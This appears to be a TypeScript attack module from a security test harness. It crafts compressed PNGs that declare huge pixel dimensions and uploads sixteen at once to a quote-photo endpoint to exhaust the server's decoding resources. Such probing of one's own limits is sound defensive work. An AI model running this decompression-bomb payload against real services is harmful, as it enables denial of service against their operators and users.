import { crc32, deflateSync } from 'node:zlib';
import { type Attack, many, newCompany, type Outcomes, photoForm, sharedQuote } from './target.ts';

const AT_ONCE = 16;

function chunk(type: string, data: Uint8Array): Buffer {
  const named = Buffer.concat([Buffer.from(type), data]);
  const framed = Buffer.alloc(named.length + 8);
  framed.writeUInt32BE(data.length, 0);
  named.copy(framed, 4);
  framed.writeUInt32BE(crc32(named), named.length + 4);
  return framed;
}

/** Creates a small file that takes as much decoding work as its size in pixels suggests. */
function png(width: number, height: number): Uint8Array<ArrayBuffer> {
  const header = Buffer.alloc(13);
  header.writeUInt32BE(width, 0);
  header.writeUInt32BE(height, 4);
  header.set([8, 2], 8);
  const pixels = deflateSync(Buffer.alloc(Math.min(height * (width * 3 + 1), 180_100_000)), { level: 1 });
  return new Uint8Array(
    Buffer.concat([
      Buffer.from('89504e470d0a1a0a', 'hex'),
      chunk('IHDR', header),
      chunk('IDAT', pixels),
      chunk('IEND', new Uint8Array()),
    ]),
  );
}

/** Uploads sixteen pictures for one company in parallel: first long and thin ones, then the largest allowed ones. */
export const photos: Attack = async (target) => {
  const company = await newCompany(target);
  const quote = await sharedQuote(company);
  const all: Outcomes = {};
  for (const picture of [png(1, 60_000_000), png(7700, 7700)]) {
    const found = await many(AT_ONCE, AT_ONCE, () =>
      company.client.ask(`/quotes/${quote.id}/photos`, {
        session: company.session,
        method: 'POST',
        form: photoForm(picture, 'image/png'),
      }),
    );
    for (const [how, count] of Object.entries(found)) all[how] = (all[how] ?? 0) + count;
  }
  return all;
};
